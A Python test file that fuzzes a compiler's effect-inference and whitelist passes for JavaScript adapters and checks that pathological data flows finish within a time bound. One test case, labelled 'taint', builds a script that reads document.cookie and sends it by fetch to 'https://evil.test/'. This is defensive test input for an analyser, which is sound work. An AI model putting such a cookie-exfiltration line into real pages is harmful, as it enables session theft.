"""No text makes effect inference or a rule raise, and no data flow makes them slow."""

from __future__ import annotations

import importlib.util
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from adapterc.compiler.passes.check_whitelist import check_whitelist
from adapterc.compiler.passes.infer_effects import infer_effects
from adapterc.spec.diagnostics import Sink
from adapterc.whitelist.profiles import load_profile
from adapterc.whitelist.rules import RULES

_HELPERS = Path(__file__).parent.parent / "unit" / "whitelist" / "adapters.py"
_SPEC = importlib.util.spec_from_file_location("adapters", _HELPERS)
assert _SPEC is not None and _SPEC.loader is not None
adapters = importlib.util.module_from_spec(_SPEC)
_SPEC.loader.exec_module(adapters)

_BODIES = [code for rule in RULES for code in (*rule.VALID, *(example[0] for example in rule.INVALID))]
_WORDS = """
    const let var x y fetch window location document cookie localStorage ( ) { } [ ] , ; . ?. => = + += ... ` ${ } ' "
    function async await for of in new return eval constructor .click() .open( method: 'POST' \\u{110000} \\ud800
    /a/ 1 null this typeof delete __proto__ import class extends
"""
_TOKENS = st.sampled_from(_WORDS.split())


def _run(code: str) -> None:
    sink = Sink()
    ir = infer_effects(adapters.adapter(adapters.script(code)), sink)
    ir = check_whitelist(ir, load_profile("lime-v1"), (), sink)
    assert ir.effects is not None
    for item in sink.sorted():
        item.message.encode("utf-8")
        assert item.span.line >= 1


@settings(max_examples=150, deadline=None)
@given(st.lists(_TOKENS, max_size=40))
def test_token_soup(tokens: list[str]) -> None:
    _run(" ".join(tokens))


@settings(max_examples=150, deadline=None)
@given(st.sampled_from(_BODIES), st.integers(0, 200), st.integers(0, 20), st.text(max_size=4))
def test_mutated_bodies(body: str, start: int, length: int, text: str) -> None:
    _run(body[:start] + text.encode("utf-8", "replace").decode() + body[start + length :])


@pytest.mark.parametrize(
    "code",
    [
        "const a0 = document.title;"
        + "".join(f"const a{i} = a{i - 1} + a{i - 1};" for i in range(1, 60))
        + "fetch(a59)",
        "".join(f"let v{i};" for i in range(25))
        + "".join(f"v{i} = {' + '.join(f'v{j}' for j in range(25))};" for i in range(25))
        + "fetch(v0); v0.click()",
        "fetch(" + "(" * 3000 + "'/x'" + ")" * 3000 + ")",
        "fetch(" + " + ".join(["'a'"] * 3000) + ")",
        "x" + ".y" * 3000 + " = 1",
        "a(" * 1500 + ")" * 1500,
        "window" + "['a']" * 2000 + "()",
        "".join(f"function f{i}(p) {{ return f{(i + 1) % 50}(p) + p }}" for i in range(50)) + "fetch(f0('/x'))",
        "const c = document.cookie;"
        + "".join(f"const d{i} = {'c' if i == 0 else f'd{i - 1}'};" for i in range(300))
        + "fetch('https://evil.test/' + d299)",
    ],
    ids=["doubling", "mesh", "parens", "sum", "members", "calls", "subscripts", "recursion", "taint"],
)
def test_hostile_data_flow_is_quick(code: str) -> None:
    start = time.process_time()
    _run(code)
    # A bound on growth, far above any machine's noise: what it guards against took minutes, or never ended.
    assert time.process_time() - start < 10
